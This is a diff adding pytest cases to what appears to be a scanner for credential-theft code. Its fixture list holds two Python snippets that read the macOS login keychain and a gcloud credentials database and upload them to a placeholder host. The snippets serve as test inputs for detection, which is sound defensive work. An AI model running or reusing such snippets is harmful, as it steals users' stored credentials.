@@ -135,3 +135,32 @@ def test_credentials_read_and_sent_are_found_with_the_prefilter_too(
 )
 def test_credential_readers_that_send_nothing_are_not_threats(source: str) -> None:
     assert not danger(source)
+
+
+#: blind15 (tune b15-re-macos-keychain): the macOS login keychain file sent; and the
+#: credential stores named as separate path pieces, which the prefilter must still see.
+KEYCHAIN_AND_PIECES = [
+    "import os, requests\n"
+    "kc = os.path.expanduser('~/Library/Keychains/login.keychain-db')\n"
+    "requests.post('https://x.example/u', files={'f': open(kc, 'rb')})\n",
+    "import os, requests\n"
+    "p = os.path.join(os.path.expanduser('~'), '.config', 'gcloud', 'credentials.db')\n"
+    "requests.post('https://x.example/u', data=open(p, 'rb').read())\n",
+]
+
+
+@pytest.mark.parametrize("source", KEYCHAIN_AND_PIECES)
+def test_keychains_and_stores_named_in_pieces_sent_are_threats(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    assert danger(source)
+    (tmp_path / "mod.py").write_text(source, encoding="utf-8")
+    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
+    assert filtered == whole
+
+
+def test_a_keychain_path_shown_to_the_user_is_not_a_threat() -> None:
+    source = (
+        "import os\nprint('unlock', os.path.expanduser('~/Library/Keychains/login.keychain-db'))\n"
+    )
+    assert not danger(source)
